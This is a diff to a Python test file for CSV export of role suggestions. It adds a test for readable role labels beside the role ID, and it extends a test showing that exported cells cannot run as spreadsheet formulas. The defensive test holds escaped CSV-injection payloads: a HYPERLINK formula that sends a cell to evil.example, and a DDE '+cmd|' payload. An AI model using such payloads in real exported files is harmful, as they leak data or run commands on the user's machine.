@@ -74,6 +74,19 @@ def test_csv_round_trips() -> None:
     assert rows[0]["conversation"] == "" and rows[0]["voice"] == "80"
 
 
+def test_csv_role_reads_as_people_write_it_and_keeps_the_id_for_scripts() -> None:
+    """A spreadsheet user saw ``hr_pro`` where the terminal and the web say "HR pro"."""
+    roles = ["hr_pro", "staffing_firm", "job_board", None]
+    picks = [replace(_s(i, f"a{i}", str(i)), role=r) for i, r in enumerate(roles, start=1)]
+    rows = list(csv.DictReader(io.StringIO(export_suggestions(picks, "csv").text)))
+    assert [(r["role"], r["role_id"]) for r in rows] == [
+        ("HR pro", "hr_pro"),
+        ("staffing firm", "staffing_firm"),
+        ("job board", "job_board"),
+        ("", ""),
+    ]
+
+
 def test_csv_keeps_a_far_weaker_score_above_zero() -> None:
     weak = [replace(_s(1, "top", "1"), score=100.0), replace(_s(2, "weak", "2"), score=0.00047)]
     rows = list(csv.DictReader(io.StringIO(export_suggestions(weak, "csv").text)))
@@ -98,7 +111,7 @@ def test_csv_cells_cannot_run_as_spreadsheet_formulas() -> None:
         )
     )
     assert rows[0]["display_name"] == '\'=HYPERLINK("http://evil.example/?x="&A1,"Click me")'
-    assert rows[0]["role"] == "'+cmd|'/C calc'!A0"
+    assert rows[0]["role"] == rows[0]["role_id"] == "'+cmd|'/C calc'!A0"
     assert rows[0]["explanation"] == "'-2+3 @SUM(A1) and more"
     assert rows[1]["display_name"] == "'\t=1+1" and rows[2]["display_name"] == "'\r=1+1"
     assert rows[3]["display_name"] == "José · Staffing × HR (A+)"  # ordinary text untouched
